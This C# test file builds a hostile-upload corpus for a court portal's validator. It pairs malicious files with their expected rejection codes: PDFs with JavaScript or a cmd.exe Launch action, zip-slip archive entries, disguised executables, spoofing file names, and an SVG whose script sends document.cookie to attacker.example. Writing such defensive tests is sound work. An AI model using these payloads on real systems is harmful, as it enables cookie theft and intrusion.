using System.Security.Cryptography;
using System.Text;
using Pipeline.Tests.TestFiles;
using Pipeline.Validation;

namespace Pipeline.Tests.Hostile;

/// <summary>
/// The hostile corpus, generated in code: every kind of bad upload the portal contract rules out, each with the reason
/// it must be quarantined with, interleaved with good uploads that must be accepted. Content cases go under case HX,
/// good uploads under GX; name cases use whatever case id they attack.
/// </summary>
public static class HostileCorpus
{
    /// <summary>The upload size limit the corpus runs with (small, so the over-limit upload is cheap).</summary>
    public const long MaxUploadBytes = 4 * 1024 * 1024;

    private const string Uploader = "portal-test@example.court";

    /// <summary>Binary types: any other bytes declared as one of these are a type mismatch.</summary>
    private static readonly string[] BinaryTypes =
    [
        MediaTypes.Pdf, MediaTypes.Png, MediaTypes.Jpeg, MediaTypes.Tiff, MediaTypes.Gif, MediaTypes.Docx, MediaTypes.Xlsx,
        MediaTypes.Pptx, MediaTypes.Mp3, MediaTypes.Mp4, MediaTypes.Wav,
    ];

    public static IReadOnlyList<HostileInput> Build()
    {
        var hostile = new List<HostileInput>();
        var n = 0;
        void Content(string label, byte[] bytes, string contentType, string code) =>
            hostile.Add(new HostileInput(label, $"HX/h{++n:D3}/{label}.bin", bytes, contentType, Valid(bytes), code));
        void Named(string label, string blobName, string code) =>
            hostile.Add(new HostileInput(label, blobName, SampleFiles.Text(), MediaTypes.PlainText, Valid(SampleFiles.Text()), code));
        void Metadata(string label, IReadOnlyDictionary<string, string> metadata, string code) =>
            hostile.Add(new HostileInput(label, $"HX/h{++n:D3}/{label}.txt", SampleFiles.Text(), MediaTypes.PlainText, metadata, code));

        // Existing hostile files: zero bytes, truncated/encrypted PDFs, zip bombs (ratio, absolute, lying sizes, entry
        // count), a zip without [Content_Types].xml, invalid UTF-8 and NUL bytes in text, broken media, ...
        foreach (var c in SampleFiles.HostileCases)
        {
            Content((string)c[0], (byte[])c[1], (string)c[2], (string)c[3]);
        }

        Content("over-the-limit", Random(MaxUploadBytes + 1, seed: 1), MediaTypes.Pdf, ReasonCodes.TooLarge);

        // Every supported type declared over an executable, an SVG with script, and random data.
        foreach (var type in BinaryTypes)
        {
            var ext = type[(type.LastIndexOfAny(['/', '.', '-']) + 1)..];
            Content($"exe-declared-as-{ext}", Executable(), type, ReasonCodes.TypeMismatch);
            Content($"svg-script-declared-as-{ext}", SvgWithScript(), type, ReasonCodes.TypeMismatch);
            Content($"random-declared-as-{ext}", Random(4096, seed: n), type, ReasonCodes.TypeMismatch);
        }

        foreach (var type in new[] { MediaTypes.PlainText, MediaTypes.Csv })
        {
            Content($"exe-declared-as-{type[5..]}", Executable(), type, ReasonCodes.InvalidTextEncoding);
            Content($"random-declared-as-{type[5..]}", Random(4096, seed: n), type, ReasonCodes.InvalidTextEncoding);
        }

        Content("exe-declared-as-eml", Executable(), MediaTypes.Eml, ReasonCodes.Malformed);
        Content("svg-script-declared-as-eml", SvgWithScript(), MediaTypes.Eml, ReasonCodes.Malformed);
        Content("random-declared-as-eml", Random(4096, seed: n), MediaTypes.Eml, ReasonCodes.Malformed);

        // PDFs that would run something when opened.
        Content("pdf-open-action-javascript", PdfWithCatalogExtras("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
        Content("pdf-javascript-name-tree", PdfWithCatalogExtras("/Names << /JavaScript 4 0 R >>", "<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
        Content("pdf-hex-escaped-javascript", PdfWithCatalogExtras("/OpenAction 4 0 R", "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
        Content("pdf-launch-action", PdfWithCatalogExtras("/OpenAction 4 0 R", "<< /S /Launch /F (cmd.exe) >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
        Content("pdf-page-additional-action", PdfWithPageExtras("/AA << /O 4 0 R >>", "<< /S /JavaScript /JS 5 0 R >>", "<< /Length 13 >>\nstream\napp.alert(1);\nendstream"), MediaTypes.Pdf, ReasonCodes.ActiveContent);

        // OOXML packages whose entries climb out of the folder they are unpacked into (zip-slip), or disagree.
        Content("docx-zip-slip-dotdot", WithEntry(SampleFiles.Docx(), "../../evil.txt"), MediaTypes.Docx, ReasonCodes.Malformed);
        Content("docx-zip-slip-inner-dotdot", WithEntry(SampleFiles.Docx(), "word/../../evil.txt"), MediaTypes.Docx, ReasonCodes.Malformed);
        Content("xlsx-zip-slip-absolute", WithEntry(SampleFiles.Xlsx(), "/tmp/evil.txt"), MediaTypes.Xlsx, ReasonCodes.Malformed);
        Content("pptx-zip-slip-backslash", WithEntry(SampleFiles.Pptx(), "..\\..\\evil.txt"), MediaTypes.Pptx, ReasonCodes.Malformed);
        Content("docx-zip-slip-drive-letter", WithEntry(SampleFiles.Docx(), "C:/Windows/evil.txt"), MediaTypes.Docx, ReasonCodes.Malformed);
        Content("docx-duplicate-entry", WithEntry(SampleFiles.Docx(), "WORD/document.xml"), MediaTypes.Docx, ReasonCodes.Malformed);
        Content("docx-local-name-differs", WithLocalName(SampleFiles.Docx(), "word/document.xml", "../d/document.xml"), MediaTypes.Docx, ReasonCodes.Malformed);

        // Names: control characters, '..', backslashes, reserved names, non-NFC, confusables, over-long, encodings. A '..'
        // segment is written with backslashes: a URI would resolve it before the upload (the emulator stores '\' as '/').
        // Control characters other than tab, CR, LF and DEL/C1 are left out: Azurite stores them but then cannot list
        // the container at all (invalid XML), which no client can work around.
        Named("case-id-tab", "H\tX/n01/note.txt", ReasonCodes.InvalidCaseId);
        Named("upload-id-del", "HX/n\u007F02/note.txt", ReasonCodes.InvalidUploadId);
        Named("file-name-tab", "HX/n03/no\tte.txt", ReasonCodes.InvalidFileName);
        Named("file-name-next-line", "HX/n04/note\u0085.txt", ReasonCodes.InvalidFileName);
        Named("file-name-rtl-override", "HX/n05/invoice\u202Efdp.exe", ReasonCodes.InvalidFileName);
        Named("file-name-zero-width", "HX/n06/no\u200Bte.txt", ReasonCodes.InvalidFileName);
        Named("case-id-dotdot", "..\\n07\\note.txt", ReasonCodes.InvalidPath);
        Named("upload-id-dotdot", "HX\\..\\note.txt", ReasonCodes.InvalidPath);
        Named("file-name-dotdot", "HX/n09\\..", ReasonCodes.InvalidPath);
        Named("file-name-dotdot-backslash", "HX/n10/..\\..\\evil.txt", ReasonCodes.InvalidPath);
        Named("case-id-backslash", "H\\X/n11/note.txt", ReasonCodes.InvalidPath);
        Named("upload-id-backslash", "HX/n\\12/note.txt", ReasonCodes.InvalidPath);
        Named("file-name-backslash", "HX/n13/dir\\note.txt", ReasonCodes.InvalidPath);
        Named("case-id-reserved", "CON/n14/note.txt", ReasonCodes.InvalidCaseId);
        Named("upload-id-reserved", "HX/LPT1/note.txt", ReasonCodes.InvalidUploadId);
        Named("file-name-reserved", "HX/n16/nul.txt", ReasonCodes.InvalidFileName);
        Named("file-name-reserved-superscript", "HX/n17/COM\u00B9.pdf", ReasonCodes.InvalidFileName);
        Named("case-id-non-nfc", "Cafe\u0301/n18/note.txt", ReasonCodes.InvalidCaseId);
        Named("file-name-non-nfc", "HX/n19/Cafe\u0301.txt", ReasonCodes.InvalidFileName);
        Named("case-id-confusable", "Н\u0425/n20/note.txt", ReasonCodes.InvalidCaseId);
        Named("upload-id-confusable", "HX/n\u043021/note.txt", ReasonCodes.InvalidUploadId);
        Named("file-name-confusable", "HX/n22/p\u0430ypal-statement.txt", ReasonCodes.InvalidFileName);
        Named("case-id-over-long", new string('C', IntakePathParser.MaxIdLength + 1) + "/n23/note.txt", ReasonCodes.InvalidCaseId);
        Named("upload-id-over-long", "HX/" + new string('u', IntakePathParser.MaxIdLength + 1) + "/note.txt", ReasonCodes.InvalidUploadId);
        Named("file-name-over-long", "HX/n25/" + new string('f', IntakePathParser.MaxFileNameLength) + ".txt", ReasonCodes.InvalidFileName);
        Named("file-name-percent-encoded", "HX/n26/%2e%2e%2fnote.txt", ReasonCodes.InvalidPath);
        Named("trailing-slash", "HX/n27/", ReasonCodes.InvalidPath);
        Named("leading-slash", "/HX/n28/note.txt", ReasonCodes.InvalidPath);
        Named("file-name-dot-segment", "HX/n29/.\\note.txt", ReasonCodes.InvalidPath);
        Named("file-name-trailing-dot", "HX/n30/note.txt.", ReasonCodes.InvalidFileName);
        Named("too-many-segments", "HX/n31/sub/note.txt", ReasonCodes.InvalidPath);

        // Metadata: missing, malformed, oversized; and a digest of other bytes.
        var text = SampleFiles.Text();
        Metadata("sha256-missing", new Dictionary<string, string> { ["uploadedby"] = Uploader }, ReasonCodes.MissingMetadata);
        Metadata("uploader-missing", new Dictionary<string, string> { ["sha256"] = Sha(text) }, ReasonCodes.MissingMetadata);
        Metadata("sha256-malformed", new Dictionary<string, string> { ["sha256"] = "zz" + Sha(text)[2..], ["uploadedby"] = Uploader }, ReasonCodes.InvalidMetadata);
        Metadata("sha256-too-long", new Dictionary<string, string> { ["sha256"] = Sha(text) + "00", ["uploadedby"] = Uploader }, ReasonCodes.InvalidMetadata);
        Metadata("uploader-oversized", new Dictionary<string, string> { ["sha256"] = Sha(text), ["uploadedby"] = new string('u', 4000) }, ReasonCodes.InvalidMetadata);
        Metadata("document-type-oversized", With(Valid(text), "documenttype", new string('d', 65)), ReasonCodes.InvalidMetadata);
        Metadata("document-type-malformed", With(Valid(text), "documenttype", "<script>"), ReasonCodes.InvalidMetadata);
        // Two spellings of one key (sha256 and SHA256), or a value with leading white space, cannot reach intake: storage
        // refuses the upload (Azurite: 403); the validator's own duplicate check is unit-tested (EnvelopeValidationTests).
        Metadata("sha256-with-dash", new Dictionary<string, string> { ["sha256"] = Sha(text)[..32] + "-" + Sha(text)[33..], ["uploadedby"] = Uploader }, ReasonCodes.InvalidMetadata);
        Metadata("uploader-control-characters", new Dictionary<string, string> { ["sha256"] = Sha(text), ["uploadedby"] = "clerk	admin" }, ReasonCodes.InvalidMetadata);
        Metadata("digest-of-other-bytes", new Dictionary<string, string> { ["sha256"] = Sha(SampleFiles.Csv()), ["uploadedby"] = Uploader }, ReasonCodes.DigestMismatch);

        return Interleave(hostile, Good());
    }

    /// <summary>Good uploads: one sound file of every type, and names that are unusual but valid.</summary>
    private static List<HostileInput> Good()
    {
        var good = new List<HostileInput>();
        var n = 0;
        foreach (var c in SampleFiles.ValidCases)
        {
            var bytes = (byte[])c[1];
            good.Add(new HostileInput("good-" + c[0], $"GX/g{++n:D3}/{c[0]}.bin", bytes, (string)c[2], Valid(bytes), null));
        }

        foreach (var name in new[] { "Zo\u00eb\u2019s statement (final).txt", "\u5831\u544a\u66f8.txt", "\u041c\u043e\u0441\u043a\u0432\u0430 report.txt", "a#b?c&d=e.txt", "notes [1].txt", "CONTRACT.txt", "con-notes.txt", "x\uFFFDy.txt" })
        {
            var bytes = SampleFiles.Text();
            good.Add(new HostileInput("good-name-" + n, $"GX/g{++n:D3}/{name}", bytes, MediaTypes.PlainText, Valid(bytes), null));
        }

        return good;
    }

    /// <summary>Good uploads spread evenly among the hostile ones, so a bad upload cannot hold up the ones after it unnoticed.</summary>
    private static List<HostileInput> Interleave(List<HostileInput> hostile, List<HostileInput> good)
    {
        var all = new List<HostileInput>(hostile.Count + good.Count);
        var every = Math.Max(1, hostile.Count / good.Count);
        var g = 0;
        for (var i = 0; i < hostile.Count; i++)
        {
            all.Add(hostile[i]);
            if (i % every == every - 1 && g < good.Count)
            {
                all.Add(good[g++]);
            }
        }

        all.AddRange(good.Skip(g));
        return all;
    }

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    private static Dictionary<string, string> Valid(byte[] bytes) => new() { ["sha256"] = Sha(bytes), ["uploadedby"] = Uploader };

    private static Dictionary<string, string> With(Dictionary<string, string> metadata, string key, string value)
    {
        metadata[key] = value;
        return metadata;
    }

    /// <summary>Seeded random bytes; the first is 0, which starts no supported format's signature.</summary>
    private static byte[] Random(long length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        bytes[0] = 0;
        return bytes;
    }

    /// <summary>The start of a Windows PE executable: "MZ", the DOS stub, the "PE\0\0" header.</summary>
    private static byte[] Executable()
    {
        var bytes = new byte[1024];
        "MZ"u8.CopyTo(bytes);
        bytes[0x3C] = 0x80;
        "This program cannot be run in DOS mode."u8.CopyTo(bytes.AsSpan(0x4E));
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        return bytes;
    }

    private static byte[] SvgWithScript() =>
        Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>fetch('https://attacker.example/'+document.cookie)</script></svg>\n");

    /// <summary>A one-page PDF (correct xref) whose catalog carries <paramref name="catalogExtras"/>; object 4 is <paramref name="object4"/>.</summary>
    private static byte[] PdfWithCatalogExtras(string catalogExtras, string object4) =>
        PdfBytes.Build(
        [
            $"<< /Type /Catalog /Pages 2 0 R {catalogExtras} >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            object4,
        ],
        string.Empty);

    private static byte[] PdfWithPageExtras(string pageExtras, string object4, string object5) =>
        PdfBytes.Build(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {pageExtras} >>",
            object4,
            object5,
        ],
        string.Empty);

    /// <summary>The package with one more entry named <paramref name="name"/>.</summary>
    private static byte[] WithEntry(byte[] package, string name)
    {
        using var output = new MemoryStream();
        output.Write(package);
        using (var zip = new System.IO.Compression.ZipArchive(output, System.IO.Compression.ZipArchiveMode.Update, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write("owned"u8);
        }

        return output.ToArray();
    }

    /// <summary>The package with the local header of entry <paramref name="name"/> renamed (same length), its directory record untouched.</summary>
    private static byte[] WithLocalName(byte[] package, string name, string localName)
    {
        var bytes = (byte[])package.Clone();
        var from = Encoding.ASCII.GetBytes(name);
        for (var i = 0; i + 30 + from.Length <= bytes.Length; i++)
        {
            if (System.Buffers.Binary.BinaryPrimitives.ReadUInt32LittleEndian(bytes.AsSpan(i)) == 0x04034b50
                && bytes.AsSpan(i + 30, from.Length).SequenceEqual(from))
            {
                Encoding.ASCII.GetBytes(localName).CopyTo(bytes, i + 30);
                return bytes;
            }
        }

        throw new InvalidOperationException($"No local header names {name}.");
    }
}
